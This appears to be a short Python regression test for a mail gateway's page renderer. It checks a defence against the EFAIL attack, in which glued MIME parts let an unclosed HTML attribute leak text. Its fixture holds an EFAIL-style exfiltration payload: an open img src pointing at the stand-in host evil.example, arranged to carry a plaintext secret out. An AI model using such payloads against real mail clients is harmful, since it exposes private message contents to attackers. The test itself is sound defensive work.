"""V-85, EFAIL: parts are glued into one page, and an open attribute of the first carries the second one away."""

from gateway.cli.mailpage import page
from gateway.mail.parse import parse

MAIL = b"\r\n".join(
    [b'Content-Type: multipart/mixed; boundary="b"', b"", b"--b", b"Content-Type: text/html", b"",
     b'<img src="https://evil.example/', b"--b", b"Content-Type: text/plain", b"", b"SECRET-words", b"--b",
          b"Content-Type: text/html",
     b"", b'"><a href="https://evil.example/', b"--b--", b""])  # fmt: skip


def test_nothing_is_carried_away() -> None:
    message = parse(MAIL)
    shown = page(message, MAIL)
    assert "evil.example/" not in shown.replace(">https://evil.example/", "")
    assert "src=" not in shown
    assert "SECRET-words" in message.text
    assert "default-src 'none'" in shown
